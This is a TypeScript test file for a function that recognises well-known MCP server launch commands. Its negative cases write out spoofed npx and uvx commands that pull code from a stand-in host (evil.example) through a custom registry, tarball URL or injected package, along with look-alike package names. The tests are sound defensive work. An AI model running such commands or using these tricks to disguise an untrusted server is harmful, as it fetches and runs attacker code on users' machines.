import assert from "node:assert/strict";
import { test } from "node:test";
import { ServerDefinition } from "./server.ts";
import { isWellKnown } from "./well-known.ts";

const started = (line: string, more: object = {}) => {
  const [command, ...args] = line.split(" ");
  return isWellKnown(ServerDefinition.parse({ transport: "stdio", command, args, ...more }));
};

test("reference servers are known by the packages that are started", () => {
  for (const line of [
    "npx -y @modelcontextprotocol/server-filesystem /tmp",
    "npx @modelcontextprotocol/server-memory@2025.4.25",
    "cmd /c npx -y @modelcontextprotocol/server-everything",
    "bunx @modelcontextprotocol/server-filesystem .",
    "uvx mcp-server-git --repository .",
    "uvx mcp-server-fetch==2025.1.1",
    "uv tool run mcp-server-time",
    "npx @anthropic/mcp-filesystem /path/to/allowed/dir",
    "npx @playwright/mcp@latest",
  ])
    assert.equal(started(line), true, line);
});

test("what only looks like one is none", () => {
  for (const line of [
    "npx -y evil @modelcontextprotocol/server-filesystem",
    "npx --package=evil @modelcontextprotocol/server-filesystem",
    "npx -p evil @modelcontextprotocol/server-filesystem",
    "npx --registry=https://evil.example @modelcontextprotocol/server-filesystem",
    "npx -y @modelcontextprotocol/server-filesystem@https://evil.example/x.tgz",
    "npx -y @modelcontextprotocol-evil/server-filesystem",
    "uvx --from evil mcp-server-git",
    "uvx --index-url https://evil.example mcp-server-git",
    "uvx mcp-server-git-evil",
    "npx mcp-server-git",
    "npx @anthropic/mcp-filesystem-evil",
    "npx @playwright/mcp-evil",
    "node @modelcontextprotocol/server-filesystem",
    "env npm_config_registry=https://evil.example npx @modelcontextprotocol/server-filesystem",
  ])
    assert.equal(started(line), false, line);
  const line = "npx -y @modelcontextprotocol/server-filesystem";
  assert.equal(started(line, { env: { npm_config_registry: "https://evil.example" } }), false);
  assert.equal(started(line, { cwd: "/somewhere" }), false);
  assert.equal(started(line, { cwd: "../other" }), false);
});

test("a directory that says what is so anyway changes nothing", () => {
  assert.equal(started("npx @anthropic/mcp-playwright", { cwd: ".", env: {} }), true);
});
